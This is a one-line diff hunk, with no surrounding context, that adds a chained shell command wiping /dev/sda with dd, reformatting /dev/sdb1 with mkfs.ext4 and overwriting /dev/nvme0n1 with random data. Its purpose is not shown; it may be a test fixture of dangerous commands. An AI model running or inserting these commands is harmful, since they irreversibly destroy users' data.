@@ -1,0 +1,1 @@
+dd if=/dev/zero of=/dev/sda bs=1M; mkfs.ext4 /dev/sdb1; cat /dev/urandom > /dev/nvme0n1
